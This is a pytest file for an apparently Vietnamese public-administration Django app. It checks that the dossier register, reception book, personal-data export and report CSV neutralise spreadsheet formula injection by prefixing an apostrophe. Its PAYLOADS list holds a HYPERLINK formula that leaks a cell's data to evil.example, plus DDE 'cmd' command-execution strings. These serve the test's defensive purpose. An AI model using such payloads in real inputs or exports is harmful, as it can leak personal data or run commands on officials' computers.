"""Text a citizen typed never becomes a spreadsheet formula (issue 17, finding 6): the dossier
register, the reception book, the personal-data export and the report CSV keep it as text."""

import csv
import io
from datetime import date

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from adminreform.services import Applicant, dossier_receive
from core.exports import safe_cell, safe_row
from reports.exports import render_csv
from tests.adminreform.factories import ProcedureFactory
from tests.reception.factories import VisitFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/x?"&D5,"Bấm vào đây")'
DDE = "=cmd|' /C calc'!A0"
PAYLOADS = [HYPERLINK, DDE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_each_formula_start_gets_an_apostrophe(payload):
    assert safe_cell(payload) == "'" + payload


def test_numbers_dates_and_plain_text_are_left_as_they_are():
    today = date(2026, 3, 2)
    values = [12, -9.0, today, None, "Nguyễn Văn An", "-5", "+84977111222", "1.645", "", "a=b"]
    assert safe_row(values) == values


def _texts(sheet) -> list[str]:
    return [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]


def _assert_no_formula(workbook_bytes: bytes, payload: str) -> None:
    workbook = load_workbook(io.BytesIO(workbook_bytes))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
    assert any(t == "'" + payload for s in workbook.worksheets for t in _texts(s))


def test_an_applicant_named_like_a_formula_stays_text_in_the_register(client, commune, officer):
    procedure = ProcedureFactory(code="1.001193", name="Đăng ký khai sinh", processing_days=3)
    dossier_receive(
        unit=commune,
        procedure=procedure,
        applicant=Applicant(name=HYPERLINK, phone="0912345678", id_number="001099012345"),
        documents=[],
        actor=officer,
        received_on=date(2026, 3, 2),
    )
    client.force_login(officer)
    params = {"unit": commune.pk, "start": "2026-03-01", "end": "2026-03-31", "format": "xlsx"}
    response = client.get(reverse("adminreform:register"), params)
    _assert_no_formula(response.getvalue(), HYPERLINK)


def test_a_visitor_named_like_a_formula_stays_text_in_the_reception_book(client, commune, officer):
    VisitFactory(unit=commune, received_on=date(2026, 3, 2), citizen_name=DDE, address="", kind="complaint")
    client.force_login(officer)
    query = {"unit": commune.pk, "start": "2026-03-01", "end": "2026-03-31", "format": "xlsx"}
    response = client.get(reverse("reception:book"), query)
    _assert_no_formula(response.content, DDE)


def test_the_personal_data_export_keeps_formulas_as_text(commune, tmp_path):
    number = "001085012345"
    VisitFactory(unit=commune, identity_number=number, citizen_name=DDE, content=HYPERLINK, kind="complaint")
    path = tmp_path / "export.xlsx"
    args = ["--identity-number", number, "--format", "xlsx", "--output", str(path)]
    call_command("export_personal_data", *args, stderr=io.StringIO())
    _assert_no_formula(path.read_bytes(), HYPERLINK)
    _assert_no_formula(path.read_bytes(), DDE)


def test_the_report_csv_keeps_a_unit_name_as_text():
    figures = {"unit": {"code": "T01", "name": "=1+2", "level": "commune"}, "petitions": {"change_pct": -3.0}}
    rows = list(csv.DictReader(io.StringIO(render_csv(figures).decode("utf-8-sig"))))
    assert {r["unit_name"] for r in rows} == {"'=1+2"}
    assert next(r for r in rows if r["indicator"] == "petitions.change_pct")["value"] == "-3.0"
